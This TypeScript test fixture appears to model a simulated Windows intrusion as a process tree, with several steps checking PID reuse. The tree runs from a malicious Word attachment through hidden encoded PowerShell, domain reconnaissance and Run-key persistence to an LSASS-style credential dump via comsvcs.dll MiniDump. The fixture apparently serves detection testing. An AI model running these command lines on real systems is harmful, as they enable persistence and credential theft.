import { hostileCommandLine } from './hostileCommandLine';
import { asEncodedCommand, firstStage } from './hiddenScripts';
import { toolCommandLine } from './spreadSteps';
import { type StoryStep } from './storyStep';

const system32 = 'C:\\Windows\\System32';
const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const temp = 'C:\\Users\\maren.voss\\AppData\\Local\\Temp';

const encodedScript = asEncodedCommand(firstStage);

/**
 * The intrusion on the workstation. A mail attachment starts a shell, the shell an encoded PowerShell, that a
 * dropped tool, and the tool dumps credentials:
 *
 *   explorer > outlook > winword > cmd (ends at once) > powershell > update-svc > cmd > reg
 *                                                      |             |- rundll32 > werfault
 *                                                      |- whoami     |- cmd (hostile command line)
 *                                                      |- net > net1
 *                                                      |- nltest
 */
export const workstationSteps: readonly StoryStep[] = [
  {
    key: 'userinit',
    image: `${system32}\\userinit.exe`,
    commandLine: `${system32}\\userinit.exe`,
    parent: `${system32}\\winlogon.exe`,
    start: '08:57:12.040',
    end: '08:57:39.500',
  },
  {
    key: 'explorer',
    image: 'C:\\Windows\\explorer.exe',
    commandLine: 'C:\\Windows\\Explorer.EXE',
    parent: 'userinit',
    start: '08:57:12.700',
  },
  // Ends before the shell below starts, which gets its pid.
  {
    key: 'notepad',
    image: `${system32}\\notepad.exe`,
    commandLine: '"C:\\Windows\\System32\\notepad.exe" todo.txt',
    parent: 'explorer',
    start: '09:02:10.300',
    end: '09:08:55.120',
  },
  {
    key: 'outlook',
    image: `${office}\\OUTLOOK.EXE`,
    commandLine: `"${office}\\OUTLOOK.EXE"`,
    parent: 'explorer',
    start: '09:03:44.210',
  },
  {
    key: 'winword',
    image: `${office}\\WINWORD.EXE`,
    commandLine: `"${office}\\WINWORD.EXE" /n "${temp}\\Invoice_4471.docm" /o ""`,
    parent: 'outlook',
    start: '09:14:27.310',
    end: '09:31:02.750',
  },
  {
    key: 'shell',
    image: `${system32}\\cmd.exe`,
    commandLine: `cmd.exe /c powershell -nop -w hidden -enc ${encodedScript}`,
    parent: 'winword',
    start: '09:14:41',
    end: '09:14:44.870',
    reusesPidOf: 'notepad',
  },
  {
    key: 'shellConsole',
    image: `${system32}\\conhost.exe`,
    commandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    parent: 'shell',
    start: '09:14:41',
    end: '09:14:44.890',
  },
  {
    key: 'powershell',
    image: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    commandLine: `powershell -nop -w hidden -enc ${encodedScript}`,
    parent: 'shell',
    start: '09:14:41',
    end: '09:40:18.020',
  },
  {
    key: 'whoami',
    image: `${system32}\\whoami.exe`,
    commandLine: 'whoami /all',
    parent: 'powershell',
    start: '09:14:58.450',
    end: '09:14:58.610',
  },
  {
    key: 'net',
    image: `${system32}\\net.exe`,
    commandLine: 'net group "Domain Admins" /domain',
    parent: 'powershell',
    start: '09:15:03',
    end: '09:15:03.700',
  },
  {
    key: 'net1',
    image: `${system32}\\net1.exe`,
    commandLine: `${system32}\\net1 group "Domain Admins" /domain`,
    parent: 'net',
    start: '09:15:03',
    end: '09:15:03.690',
  },
  {
    key: 'nltest',
    image: `${system32}\\nltest.exe`,
    commandLine: 'nltest /dclist:harbor.example',
    parent: 'powershell',
    start: '09:15:09.330',
    end: '09:15:09.800',
  },
  {
    key: 'tool',
    image: `${temp}\\update-svc.exe`,
    commandLine: toolCommandLine,
    parent: 'powershell',
    start: '09:15:21.118',
  },
  {
    key: 'persistShell',
    image: `${system32}\\cmd.exe`,
    commandLine: `cmd /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v UpdateSvc /d "${temp}\\update-svc.exe"`,
    parent: 'tool',
    start: '09:16:02.005',
    end: '09:16:02.410',
  },
  {
    key: 'reg',
    image: `${system32}\\reg.exe`,
    commandLine: `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v UpdateSvc /d "${temp}\\update-svc.exe"`,
    parent: 'persistShell',
    start: '09:16:02.090',
    end: '09:16:02.300',
  },
  {
    key: 'dump',
    image: `${system32}\\rundll32.exe`,
    commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 700 C:\\ProgramData\\l.dmp full',
    parent: 'tool',
    start: '09:18:30.777',
    end: '09:18:33.020',
  },
  {
    key: 'werfault',
    image: `${system32}\\WerFault.exe`,
    commandLine: `${system32}\\WerFault.exe -u -p 2212 -s 148`,
    parent: 'dump',
    start: '09:18:32.500',
    end: '09:18:35.900',
  },
  {
    key: 'hostile',
    image: `${system32}\\cmd.exe`,
    commandLine: hostileCommandLine,
    parent: 'tool',
    start: '09:21:14.600',
    end: '09:21:15.100',
  },
  // The shell's pid again, for something harmless that starts long after the shell has ended.
  {
    key: 'later',
    image: `${system32}\\SearchProtocolHost.exe`,
    commandLine: '',
    parent: `${system32}\\SearchIndexer.exe`,
    start: '09:25:40.130',
    end: '09:27:10.900',
    reusesPidOf: 'shell',
  },
  // A console whose start the log missed; its pid was notepad's too, some minutes before.
  {
    key: 'mmc',
    image: `${system32}\\mmc.exe`,
    commandLine: '',
    parent: 'explorer',
    start: '09:28:01',
    end: '09:29:30',
    logged: false,
    reusesPidOf: 'later',
  },
  {
    key: 'eventViewer',
    image: `${system32}\\dllhost.exe`,
    commandLine: `${system32}\\DllHost.exe /Processid:{E10F6C3A-F1AE-4ADC-AA9D-2FE65525666E}`,
    parent: 'mmc',
    start: '09:28:12.420',
    end: '09:28:20',
  },
];
